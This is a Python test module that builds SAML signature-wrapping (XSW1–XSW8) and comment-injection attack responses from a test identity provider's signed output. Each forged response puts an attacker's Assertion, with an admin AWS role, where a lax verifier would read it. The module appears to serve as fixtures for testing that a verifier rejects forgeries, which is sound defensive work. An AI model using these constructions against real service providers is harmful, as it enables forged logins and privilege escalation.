"""Signature-wrapping (XSW1-XSW8) and comment-injection attacks on test-IdP responses.

Each generator starts from a genuinely signed response (testidp) and rearranges it the way the
classic attacks do (Somorovsky et al., 'On Breaking SAML', 2012): the signed content stays intact
somewhere in the document while an attacker's Assertion, with ATTACKER values, sits where a
careless consumer reads claims. A correct checker rejects every one and never reports an
ATTACKER value as a claim.

  XSW1  Response signature; a new root Response with the attacker's Assertion; the original
        Response moved inside the ds:Signature.
  XSW2  as XSW1, the original Response placed before the Signature as a sibling (detached).
  XSW3  Assertion signature; the attacker's Assertion (new ID) inserted before the signed one.
  XSW4  the signed Assertion moved inside the attacker's Assertion.
  XSW5  the signed Assertion edited in place (keeps its Signature and ID); an unsigned copy of
        the original appended to the Response (same ID twice).
  XSW6  as XSW5, the unsigned original copy placed inside the ds:Signature.
  XSW7  the signed Assertion moved into samlp:Extensions; the attacker's Assertion in its place.
  XSW8  the attacker's Assertion carries the Signature; the original Assertion (signature
        removed) inside a ds:Object of that Signature.
  comment injection: a comment inserted into signed text (NameID, RoleSessionName) after signing;
        exclusive c14n drops comments, so the signature still verifies.
"""

from __future__ import annotations

import copy
from collections.abc import Callable

import testidp
from lxml import etree

SAMLP, SAML, DS = testidp.SAMLP, testidp.SAML, testidp.DS
ATTACKER_NAME_ID = "attacker@evil.test"
ATTACKER_SESSION_NAME = "attacker"
ATTACKER_ROLE = "arn:aws:iam::999999999999:role/Admin,arn:aws:iam::999999999999:saml-provider/Evil"
ATTACKER_VALUES = (ATTACKER_NAME_ID, ATTACKER_SESSION_NAME, "arn:aws:iam::999999999999:role/Admin")


def _signed(sign_response: bool, sign_assertion: bool) -> etree._Element:
    spec = testidp.ResponseSpec(sign_response=sign_response, sign_assertion=sign_assertion)
    return testidp.response_element(spec, testidp.idp())


def _attacker_assertion(assertion_id: str = "_evil-0001") -> etree._Element:
    spec = testidp.ResponseSpec(
        assertion_id=assertion_id,
        name_id=ATTACKER_NAME_ID,
        role_session_name=ATTACKER_SESSION_NAME,
        roles=(ATTACKER_ROLE,),
    )
    return testidp.build_assertion(spec)


def _tamper(assertion: etree._Element) -> None:
    """Replace the claims of `assertion` in place with the attacker's."""
    name_id = assertion.find(f"{{{SAML}}}Subject/{{{SAML}}}NameID")
    assert name_id is not None
    name_id.text = ATTACKER_NAME_ID
    for attribute in assertion.iter(f"{{{SAML}}}Attribute"):
        value = attribute.find(f"{{{SAML}}}AttributeValue")
        assert value is not None
        if attribute.get("Name", "").endswith("/Role"):
            value.text = ATTACKER_ROLE
        elif attribute.get("Name", "").endswith("/RoleSessionName"):
            value.text = ATTACKER_SESSION_NAME


def _without_signature(element: etree._Element) -> etree._Element:
    clone = copy.deepcopy(element)
    for signature in clone.findall(f"{{{DS}}}Signature"):
        clone.remove(signature)
    return clone


def _evil_root(original: etree._Element) -> etree._Element:
    root = etree.Element(f"{{{SAMLP}}}Response", nsmap={"samlp": SAMLP, "saml": SAML})
    for name in ("Version", "IssueInstant", "Destination"):
        if original.get(name) is not None:
            root.set(name, original.get(name, ""))
    root.set("ID", "_evil-response")
    for child in original:
        if child.tag in (f"{{{SAML}}}Issuer", f"{{{SAMLP}}}Status"):
            root.append(copy.deepcopy(child))
    return root


def _child(element: etree._Element, tag: str) -> etree._Element:
    """The first child of `element` with Clark-notation `tag` (the generators rely on it)."""
    found = element.find(tag)
    assert found is not None
    return found


def _signed_assertion() -> tuple[etree._Element, etree._Element]:
    """A response whose Assertion alone is signed, and that Assertion."""
    root = _signed(False, True)
    return root, _child(root, f"{{{SAML}}}Assertion")


def _detached_response() -> tuple[etree._Element, etree._Element, etree._Element]:
    """A signed Response with its Signature taken out, that Signature, and the attacker's root."""
    original = _signed(True, False)
    signature = _child(original, f"{{{DS}}}Signature")
    root = _evil_root(original)
    original.remove(signature)
    return original, signature, root


def xsw1() -> etree._Element:
    original, signature, root = _detached_response()
    root.insert(1, signature)
    signature.append(original)
    root.append(_attacker_assertion())
    return root


def xsw2() -> etree._Element:
    original, signature, root = _detached_response()
    root.insert(1, original)
    root.insert(2, signature)
    root.append(_attacker_assertion())
    return root


def xsw3() -> etree._Element:
    root, signed = _signed_assertion()
    signed.addprevious(_attacker_assertion())
    return root


def xsw4() -> etree._Element:
    root, signed = _signed_assertion()
    evil = _attacker_assertion()
    root.replace(signed, evil)
    evil.append(signed)
    return root


def _tampered() -> tuple[etree._Element, etree._Element, etree._Element]:
    """A response whose signed Assertion now carries the attacker's claims (signature kept),
    that Assertion, and an unsigned copy of the original."""
    root, signed = _signed_assertion()
    original = _without_signature(signed)
    _tamper(signed)
    return root, signed, original


def xsw5() -> etree._Element:
    root, _, original = _tampered()
    root.append(original)
    return root


def xsw6() -> etree._Element:
    root, signed, original = _tampered()
    _child(signed, f"{{{DS}}}Signature").append(original)
    return root


def xsw7() -> etree._Element:
    root, signed = _signed_assertion()
    extensions = etree.Element(f"{{{SAMLP}}}Extensions")
    root.replace(signed, _attacker_assertion())
    extensions.append(signed)
    _child(root, f"{{{SAML}}}Issuer").addnext(extensions)
    return root


def xsw8() -> etree._Element:
    root, signed = _signed_assertion()
    signature = _child(signed, f"{{{DS}}}Signature")
    original = _without_signature(signed)
    evil = _attacker_assertion(signed.get("ID", ""))
    signed.remove(signature)
    _child(evil, f"{{{SAML}}}Issuer").addnext(signature)
    wrapper = etree.SubElement(signature, f"{{{DS}}}Object")
    wrapper.append(original)
    root.replace(signed, evil)
    return root


def _inject(node: etree._Element | None, split_at: int) -> None:
    assert node is not None and node.text is not None
    full = node.text
    node.text = full[:split_at]
    comment = etree.Comment(" injected ")
    comment.tail = full[split_at:]
    node.append(comment)


INJECTED_NAME_ID = "alice@example.test.evil.test"
"""The signed NameID: a naive parser stops at the comment and reads 'alice@example.test'."""


def comment_injection() -> etree._Element:
    spec = testidp.ResponseSpec(name_id=INJECTED_NAME_ID, role_session_name="alice.evil")
    root = testidp.response_element(spec, testidp.idp())
    name_id = root.find(f"{{{SAML}}}Assertion/{{{SAML}}}Subject/{{{SAML}}}NameID")
    _inject(name_id, len("alice@example.test"))
    session = [
        a.find(f"{{{SAML}}}AttributeValue")
        for a in root.iter(f"{{{SAML}}}Attribute")
        if a.get("Name", "").endswith("/RoleSessionName")
    ]
    _inject(session[0], len("alice"))
    return root


ATTACKS: dict[str, Callable[[], etree._Element]] = {
    "xsw1": xsw1,
    "xsw2": xsw2,
    "xsw3": xsw3,
    "xsw4": xsw4,
    "xsw5": xsw5,
    "xsw6": xsw6,
    "xsw7": xsw7,
    "xsw8": xsw8,
    "comment-injection": comment_injection,
}


def attack_xml(name: str) -> bytes:
    """The exact bytes of one attack response."""
    return etree.tostring(ATTACKS[name](), xml_declaration=True, encoding="UTF-8")
